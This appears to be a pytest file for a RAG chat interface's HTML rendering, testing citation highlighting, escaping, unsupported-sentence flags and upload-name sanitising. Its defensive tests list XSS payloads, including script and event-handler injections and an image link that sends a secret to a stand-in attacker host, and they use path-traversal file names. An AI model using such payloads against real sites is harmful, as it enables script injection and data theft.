"""The web chat's markup: escaping, highlighted passages, flags, notices, upload names."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from index.types import FileResult, IndexStatus
from rag.backends.base import BackendStatus
from rag.config import load_settings
from rag.types import Answer, Citation, SentenceCheck
from ui import render
from ui.uploads import check_upload, safe_name

DOC = "Intro line. Sergei Naryshkin is the director of the SVR. He spoke to Burns."


def _citation(n: int = 1, text: str = "Sergei Naryshkin is the director of the SVR.") -> Citation:
    start = DOC.index(text)
    return Citation(
        n=n,
        source="004_svr.txt",
        title="SVR chief <b>profile</b>",
        chunk_id="c1",
        start=start + 100,
        end=start + 100 + len(text),
        text=text,
        chunk_text=DOC,
        chunk_start=100,
    )


def _answer(**kw) -> Answer:
    base = dict(
        text="Sergei Naryshkin is the director of the SVR [1].",
        citations=(_citation(),),
        hits=(),
        abstained=False,
        backend="extractive",
        model="extractive-v1",
    )
    base.update(kw)
    return Answer(**base)


def test_sources_panel_highlights_exactly_the_supporting_span():
    html = render.sources_html(_answer())
    assert "<mark>Sergei Naryshkin is the director of the SVR.</mark>" in html
    assert "Intro line. <mark>" in html  # the rest of the chunk is there for context
    assert "004_svr.txt" in html and "[1]" in html


def test_highlight_falls_back_to_searching_the_chunk_when_offsets_disagree():
    c = _citation()
    shifted = Citation(**{**c.__dict__, "start": 0, "end": 5})
    html = render.sources_html(_answer(citations=(shifted,)))
    assert "<mark>Sergei Naryshkin is the director of the SVR.</mark>" in html


def test_document_and_model_text_is_escaped_everywhere():
    evil_doc = 'Click <img src=x onerror="alert(1)"> now.'
    c = Citation(n=1, source="<x>.txt", title="<script>t</script>", chunk_id="c", start=0,
                 end=len(evil_doc), text=evil_doc, chunk_text=evil_doc)  # fmt: skip
    answer = _answer(text="<script>alert(2)</script> [1]", citations=(c,))
    for html in (render.sources_html(answer), render.answer_html(answer)):
        assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in render.answer_html(answer)
    assert "<script>" not in render.question_html("<script>x</script>")
    assert "<script>" not in render.streaming_html("<script>x</script>")


def test_answer_markup_is_one_html_block_without_blank_lines():
    html = render.answer_html(_answer(text="First para.\n\nSecond para [1]."))
    assert "\n" not in html
    assert 'First para.<br><br>Second para [<span class="rag-cite" title="Open ' in html


def test_unsupported_sentence_is_flagged_in_answer_and_panel():
    text = "Naryshkin leads the SVR [1]. He likes jazz [1]."
    checks = (
        SentenceCheck("Naryshkin leads the SVR [1].", (1,), True, 0.9, 0.9, 0.9),
        SentenceCheck("He likes jazz [1].", (1,), False, 0.1, 0.0, 0.2),
    )
    answer = _answer(text=text, sentences=checks)
    bubble = render.answer_html(answer)
    assert '<span class="rag-unsupported"' in bubble
    assert render.UNSUPPORTED_NOTE in bubble
    assert bubble.count(render.UNSUPPORTED_NOTE) == 2  # title attribute + visible flag
    assert 'Naryshkin leads the SVR [<span class="rag-cite"' in bubble.split("rag-unsupported")[0]
    panel = render.sources_html(answer)
    assert "He likes jazz [1]." in panel and render.UNSUPPORTED_NOTE in panel


def test_abstention_is_a_neutral_notice_not_an_error():
    answer = _answer(
        text="I could not find this in the documents.",
        citations=(),
        abstained=True,
        abstain_reason="key terms missing",
    )
    bubble, panel = render.answer_html(answer), render.sources_html(answer)
    assert "rag-abstain" in bubble and "rag-error" not in bubble
    assert "I could not find this in the documents." in bubble
    assert "rag-abstain" in panel and "key terms missing" in panel


def test_backend_error_is_readable_and_names_backend_and_model():
    answer = _answer(
        text="x", citations=(), error="Cannot reach http://127.0.0.1:9/v1", backend="openai"
    )
    bubble = render.answer_html(answer)
    assert "rag-error" in bubble and "Cannot reach http://127.0.0.1:9/v1" in bubble
    assert "openai · extractive-v1" in bubble


def test_every_answer_shows_backend_and_model():
    assert "extractive · extractive-v1" in render.answer_html(_answer())


def test_backend_label_shows_unavailable_reason():
    ok = BackendStatus(name="extractive", state="available", model="sentences")
    bad = BackendStatus(name="openai", state="unreachable", detail="connection refused")
    assert render.backend_label(ok) == "extractive (sentences)"
    assert render.backend_label(bad) == "openai — unavailable: connection refused"


def test_index_status_and_upload_results():
    status = IndexStatus(12, 340, "all-MiniLM-L6-v2", 384, 256, 40, "2026-01-02T03:04:05", ".rag")
    html = render.index_status_html(status)
    assert "12</b> documents" in html and "340</b> chunks" in html
    assert "all-MiniLM-L6-v2" in html and "2026-01-02T03:04:05" in html
    assert "run `rag index`" in render.index_status_html(None, "No index — run `rag index`")
    rows = render.upload_results_html(
        [
            FileResult("a.txt", "added", chunks=3),
            FileResult("b.exe", "skipped", reason="unsupported <type>"),
        ]
    )
    assert "added" in rows and "3 chunks" in rows and "unsupported &lt;type&gt;" in rows


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("notes.txt", "notes.txt"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\win.MD", "win.md"),
        ("/abs/path/report.pdf", "report.pdf"),
        (".hidden.txt", "hidden.txt"),
        ("résumé?*.docx", "resume.docx"),
        ("...", "upload"),
    ],
)
def test_upload_names_stay_inside_the_uploads_folder(given: str, expected: str):
    name = safe_name(given)
    assert name == expected
    assert "/" not in name and "\\" not in name and not name.startswith(".")


def test_upload_checks_type_and_size(tmp_path: Path):
    overrides = {"index": {"data_dir": str(tmp_path)}, "server": {"max_upload_mb": 0.001}}
    settings = load_settings(overrides)
    small = tmp_path / "a.txt"
    small.write_text("hello")
    big = tmp_path / "b.txt"
    big.write_text("x" * 5000)
    assert check_upload(small, "a.txt", settings) is None
    assert "larger than" in (check_upload(big, "b.txt", settings) or "")
    assert "unsupported file type '.exe'" in (check_upload(small, "a.exe", settings) or "")


# ------------------------------------------------------------------------ hostile markup
class _Tags(HTMLParser):
    """Every element and attribute a browser would build from a fragment."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def visible_text(fragment: str) -> str:
    parser = _Tags()
    parser.feed(fragment)
    return parser.text


def live_markup(fragment: str) -> list[str]:
    """What in `fragment` could run code or fetch from elsewhere: script-ish elements, event
    handlers, links, images, styles and URL-valued attributes."""
    parser = _Tags()
    parser.feed(fragment)
    bad = []
    for tag, attrs in parser.found:
        if tag in {"script", "img", "a", "iframe", "object", "embed", "svg", "style", "link"}:
            bad.append(f"<{tag}>")
        bad += [f"{tag}[{name}]" for name in attrs if name.startswith("on")]
        bad += [f"{tag}[{name}]" for name in attrs if name in {"href", "src", "style", "action"}]
    return bad


HOSTILE = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "![x](http://evil.example/?q=secret)",
    '<img src="http://evil.example/pixel.png">',
    '<div onmouseover="alert(1)">hover</div>',
    '"><svg onload=alert(1)>',
    "<style>body{display:none}</style>",
    "<!-- hidden --><iframe src=//evil.example></iframe>",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_document_text_never_becomes_live_markup(payload: str):
    doc = f"Sergei Naryshkin is the director of the SVR. {payload} He spoke to Burns."
    c = Citation(n=1, source=f"{payload}.txt", title=payload, chunk_id="c", start=0,
                 end=len(doc), text=doc, chunk_text=doc)  # fmt: skip
    answer = _answer(text=f"{payload} Naryshkin leads the SVR [1].", citations=(c,))
    for fragment in (
        render.sources_html(answer),
        render.answer_html(answer),
        render.question_html(payload),
        render.streaming_html(payload),
        render.error_notice(payload),
        render.upload_results_html([FileResult(payload, "skipped", reason=payload)]),
    ):
        assert live_markup(fragment) == [], fragment
    # ... and the user still sees it, as text
    assert payload in visible_text(render.answer_html(answer))
    assert payload in visible_text(render.sources_html(answer))
    assert payload in visible_text(render.question_html(payload))


@pytest.mark.parametrize("payload", HOSTILE)
def test_sanitizer_removes_live_markup_that_slipped_through(payload: str):
    """Defence in depth: raw markup handed to the sanitizer comes out inert."""
    assert live_markup(render.sanitize(f'<div class="rag-answer">{payload}</div>')) == []


def test_sanitizer_keeps_the_markup_the_chat_uses():
    html = render.answer_html(
        _answer(
            text="Naryshkin leads the SVR [1]. He likes jazz [1].",
            sentences=(SentenceCheck("He likes jazz [1].", (1,), False, 0.1, 0.0, 0.2),),
        )
    )
    assert '<span class="rag-unsupported" title="' in html and "<br>" not in html
    assert '<div class="rag-meta">' in html
    panel = render.sources_html(_answer())
    assert '<div class="rag-source" id="rag-source-1">' in panel and "<mark>" in panel
